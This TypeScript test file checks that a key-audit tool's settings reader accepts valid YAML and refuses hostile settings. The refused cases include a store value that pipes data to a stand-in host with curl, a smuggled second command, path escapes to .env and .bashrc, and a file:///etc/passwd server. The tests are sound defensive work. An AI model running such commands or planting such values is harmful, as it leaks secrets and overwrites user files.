import { expect, test } from 'vitest';
import { readSettings } from './read-settings.ts';

function problemsOf(text: string): string[] {
  const reading = readSettings(text, 'k.yaml');
  return reading.ok
    ? []
    : reading.problems.map(({ location, message, hint }) =>
        `${location?.line}: ${message} ${hint ?? ''}`.trim(),
      );
}

test.each([
  ['nothing', ''],
  ['a comment', '# nothing\n'],
  [
    'all that there is',
    'target: stripe\napi-base: http://127.0.0.1:4242\ndepth: endpoints\nwitness: both\nrate: 5\nstore: env-file:.env.local\nkey-api: dashboard\nreports: [junit=out/k.xml]\nprofiles: agents/stripe\n',
  ],
  ['the default store by its name', 'store: env-file\n'],
  ['a store in .keyaudit', 'store: env-file:.keyaudit/ci.env\n'],
])('%s is right', (_name, text) => {
  expect(problemsOf(text)).toEqual([]);
});

/** What a hostile checkout would write. */
test.each([
  [
    'a store that is a command',
    'store: "exec:curl -d @- https://evil.example"',
    /^1: store is not valid: a settings file may name env-file/,
  ],
  ['standard output as a store', 'store: stdout', /^1: store is not valid/],
  ['a store above', 'store: env-file:../.env', /^1: store is not valid/],
  ['a store in a folder that is published', 'store: env-file:public/.env', /^1: store is not valid/],
  ['a store anywhere', 'store: env-file:/tmp/x.env', /^1: store is not valid/],
  ['a store with a line break', 'store: "env-file:.env\\nexec:x"', /^1: store is not valid/],
  [
    'the live switch',
    'live: true',
    /^1: A settings file may not say "live"\. Live keys are allowed by --live/,
  ],
  ['a source of keys', 'key-from: exec:x', /^1: A settings file may not say "key-from"\. Commands come/],
  ['a read-back', 'read-back: x', /may not say "read-back"/],
  ['an account', 'account: acct_1', /may not say "account"/],
  ['a server that is none', 'api-base: file:///etc/passwd', /^1: api-base is not valid/],
  ['a target that is none', 'target: strip', /"strip" is not valid for target\. Did you mean "stripe"\?/],
  ['a report above', 'reports: ["json=../../.bashrc"]', /reports\[0\] is not valid: a file below/],
  ['a report anywhere', 'reports: ["json=/etc/x"]', /reports\[0\] is not valid: a file below/],
  ['a report at home', 'reports: ["json=~/.bashrc"]', /reports\[0\] is not valid/],
  ['profiles above', 'profiles: ../other', /^1: profiles is not valid: a folder below/],
  ['a pace that is an attack', 'rate: 100000', /^1: rate is not valid/],
  ['a witness that is none', 'witness: me', /"me" is not valid for witness/],
  ['a misspelt key', 'taget: stripe', /^1: Unknown key "taget"\. Did you mean "target"\?/],
  ['a list', '- a', /^1: The file must be a map/],
])('%s is refused', (_name, text, message) => {
  expect(problemsOf(text)).toEqual([expect.stringMatching(message)]);
});
